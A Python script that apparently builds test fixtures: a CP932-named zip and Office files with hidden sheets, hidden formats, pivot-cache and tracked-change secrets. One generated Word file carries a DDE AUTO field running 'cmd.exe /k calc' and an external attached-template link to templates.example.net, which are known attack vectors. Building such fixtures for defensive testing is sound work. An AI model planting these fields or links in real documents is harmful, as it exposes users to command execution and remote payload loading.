"""Writes files that no program at hand writes: a zip with names in CP932, and Office files with what only Excel makes."""
import io
import sys
import zipfile

out = sys.argv[1]
DATE = (2026, 1, 2, 3, 4, 6)


class CP932(zipfile.ZipInfo):
    def _encodeFilenameFlags(self):
        return self.filename.encode("cp932"), self.flag_bits & ~0x800


def write(name, members, method=zipfile.ZIP_DEFLATED, kind=zipfile.ZipInfo):
    with zipfile.ZipFile(out + "/" + name, "w", method) as z:
        for member, data in members.items():
            info = kind(member, DATE)
            info.compress_type = method
            z.writestr(info, data)


write("cp932.zip", {"資料/名簿.csv": "氏名,電話\r\n見本 太郎,090-0000-0000\r\n".encode("cp932"), "表示.txt": "表示\r\n".encode("cp932")}, kind=CP932)
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
excel = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets><sheet name="表" sheetId="1" r:id="rId1"/>'
    '<sheet name="奥" sheetId="2" state="veryHidden" r:id="rId2"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{REL}/worksheet" Target="/xl/worksheets/sheet2.xml"/></Relationships>',
    "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}"><si><t>氏名</t><rPh sb="0" eb="2"><t>シメイ</t></rPh></si>'
    '<si><r><t>見本</t></r><r><t xml:space="preserve"> 花子</t></r></si><si><t>very secret</t></si></sst>',
    "xl/styles.xml": f'<styleSheet xmlns="{MAIN}"><numFmts><numFmt numFmtId="164" formatCode=";;;"/><numFmt numFmtId="165" formatCode="[$-411]ggge&quot;年&quot;m&quot;月&quot;d&quot;日&quot;"/></numFmts>'
    '<fonts><font/></fonts><fills><fill><patternFill patternType="none"/></fill></fills>'
    '<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="164"/><xf numFmtId="165"/></cellXfs></styleSheet>',
    "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    '<row r="3"><c r="A3" t="s"><v>1</v></c><c r="C3" s="1"><v>31840</v></c><c r="D3" t="inlineStr"><is><t>inline &lt;words&gt;</t></is></c>'
    '<c r="E3" s="2"><v>4711</v></c><c r="F3" s="3"><v>31841</v></c></row></sheetData></worksheet>',
    "xl/worksheets/sheet2.xml": f'<worksheet xmlns="{MAIN}"><sheetData><row><c t="s"><v>2</v></c></row></sheetData></worksheet>',
    "xl/pivotCache/pivotCacheDefinition1.xml": f'<pivotCacheDefinition xmlns="{MAIN}"><cacheFields><cacheField name="氏名"><sharedItems><s v="pivot secret"/></sharedItems></cacheField></cacheFields></pivotCacheDefinition>',
    "xl/pivotCache/pivotCacheRecords1.xml": f'<pivotCacheRecords xmlns="{MAIN}"><r><x v="0"/></r></pivotCacheRecords>',
}
write("excel.xlsx", excel)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
word = {
    "[Content_Types].xml": excel["[Content_Types].xml"],
    "word/document.xml": f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>visible</w:t></w:r><w:moveFrom><w:r><w:t>moved secret</w:t></w:r></w:moveFrom>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>',
    "word/_rels/settings.xml.rels": f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{REL}/attachedTemplate" Target="https://templates.example.net/a.dotm" TargetMode="External"/></Relationships>',
}
write("remote.docx", word)
write("local.docx", dict(word, **{
    "word/document.xml": f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>visible</w:t></w:r></w:p></w:body></w:document>',
    "word/_rels/settings.xml.rels": word["word/_rels/settings.xml.rels"].replace("https://templates.example.net/a.dotm", "file:///C:\\Users\\a\\Templates\\b.dotx"),
}))
